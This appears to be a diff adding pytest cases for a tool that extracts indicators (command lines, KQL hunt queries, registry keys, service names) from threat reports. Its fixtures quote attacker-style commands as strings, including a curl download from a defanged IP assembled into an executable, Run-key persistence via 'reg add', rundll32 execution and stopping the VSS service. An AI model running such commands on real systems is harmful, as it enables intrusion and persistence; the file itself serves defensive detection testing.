@@ -39,6 +39,52 @@ FOUND = [
         "index=win EventCode=4688 | stats count by host"]),
     ("network_indicators", "to hxxps://evil[.]com/a.php and 10.1.2[.]3.", ["hxxps://evil[.]com/a.php", "10.1.2[.]3"]),
 ]  # fmt: skip
+RUN_TOGETHER = [
+    ("curl -o a.txt <hxxp://1.2.3[.]4/a.txt> copy /b a.txt+b.txt c.exe", [
+        "curl -o a.txt <hxxp://1.2.3[.]4/a.txt>", "copy /b a.txt+b.txt c.exe"]),
+    ("wmic logicaldisk get name >> C:\\a\\d.log cd C:\\a", ["wmic logicaldisk get name >> C:\\a\\d.log"]),
+    ("tool.exe -k \"a b\" whoami /all", ["tool.exe -k \"a b\"", "whoami /all"]),
+]  # fmt: skip
+GLUED = [
+    ("rundll32 C:\\a.dll,#1 Figure 3: the export", ["rundll32 C:\\a.dll,#1"]),
+    ("\"C:\\Program Files\\T\\t.exe\" -x -v c:\\s\\ Lateral Movement", [
+        "\"C:\\Program Files\\T\\t.exe\" -x -v c:\\s\\"]),
+    ("vssadmin list shadows /all Table 12. Commands of the actor", ["vssadmin list shadows /all"]),
+    ("They ran nltest /dclist: The answer", ["nltest /dclist:"]),
+    ("nltest /dclist:\nnext", ["nltest /dclist:"]),
+    ("They ran ipconfig /all: The answer", ["ipconfig /all"]),
+]  # fmt: skip
+QUOTED = [
+    ("`evil.exe && whoami /all` was run", ["whoami /all"]),
+    ("`x whoami /all`.", ["whoami /all"]),
+    ('powershell -c "Write-Host `"a`""', ['powershell -c "Write-Host `"a`""']),
+    ("It ran `cmd /c ^\n  ping.exe -n 5 b` then", ["cmd /c ^\n  ping.exe -n 5 b"]),
+    ("powershell -nop `\n  -file C:\\a.ps1\nThe end", ["powershell -nop `\n  -file C:\\a.ps1"]),
+]
+KQL = [
+    "let names = dynamic(['a', 'b']);\nlet days = 7d;\nDeviceFileEvents\n| where FileName in (names)",
+    "// what it drops\nlet t = DeviceFileEvents;\nt\n| where FileName == 'a'\n// and by whom\n| project DeviceName",
+    "_Im_Dns(starttime=ago(1d)) | where DnsQuery has 'evil'",
+    "imProcessCreate | where Process has 'a.exe'",
+    "event_simpleName=ProcessRollup2 FileName=a.exe",
+]
+KEYS = [
+    ("reg add HKCU\\A\\Run /v Updater /t REG_SZ", ["HKCU\\A\\Run\\Updater"]),
+    ("reg.exe add \"HKLM\\A\\Windows NT\\Run\" /t REG_SZ /f /v \"My Key\" /d a.exe", [
+        "HKLM\\A\\Windows NT\\Run\\My Key"]),
+    ("Set-ItemProperty -Path 'HKLM:\\A\\B' -Name 'Off' -Value 1", ["HKLM:\\A\\B\\Off"]),
+    ("reg query HKLM\\A\\B /s; other /v X", ["HKLM\\A\\B"]),
+    ("the key HKLM\\A\\B /v X", ["HKLM\\A\\B"]),
+]  # fmt: skip
+SERVICES = [
+    ('New-Service -BinaryPathName C:\\x.exe -Name "My Svc"', ["My Svc"]),
+    ("Stop-Service -Force -Name 'VSS'; New-Service Evil", ["VSS", "Evil"]),
+    ("Start-Service -Name Spooler", ["Spooler"]),
+]
+FOUND += [("cmdline", *each) for each in (*RUN_TOGETHER, *GLUED, *QUOTED)]
+FOUND += [("hunt_queries", f"Hunt for it:\n{query}\n\nNext", [query]) for query in KQL]
+FOUND += [("hunt_queries", f"Hunt: {quote}{KQL[3]}{quote} in most places.", [KQL[3]]) for quote in "`'"]
+FOUND += [("registry", *each) for each in KEYS] + [("services", *each) for each in SERVICES]
 
 
 @pytest.mark.parametrize(("type_", "text", "values"), FOUND)
@@ -50,7 +96,8 @@ NOT_FOUND = [
     ("cmdline", "The net result was that PowerShell is a tool. Copy the file. PowerShell - T1059.001"),
     ("cmdline", "We observed tasklist and whoami in use."),
     ("registry", "the HKLM hive"),
-    ("services", "The service was stopped. A new service is offered."),
+    ("services", "The service was stopped. A new service is offered. Get-Service lists them."),
+    ("cmdline", "They went there: cd C:\\Users"),
     ("scheduled_tasks", "The scheduled task was removed."),
     ("process_lineage", "cmd.exe and powershell.exe were seen"),
     ("hunt_queries", "The event index was searched for title: and condition."),
@@ -105,7 +152,25 @@ def test_many_texts_in_order() -> None:
     assert counts == [1, 0, 1]
 
 
-@pytest.mark.parametrize("piece", ["\\", "a.", 'x.exe "', "net user ", "a[.]", "title: condition: ", "HKLM\\a b", " "])
+@pytest.mark.parametrize(
+    "piece",
+    [
+        "\\",
+        "a.",
+        'x.exe "',
+        "net user ",
+        "a[.]",
+        "title: condition: ",
+        "HKLM\\a b",
+        " ",
+        "let a=",
+        "// a\n",
+        "cmd /c ^\n",
+        "reg add HKLM\\a\\b /t x ",
+        "New-Service -a ",
+        "`cmd -a",
+    ],
+)
 def test_hostile_text_takes_no_long_time(piece: str) -> None:
     text = piece * (20_000 // len(piece))
 
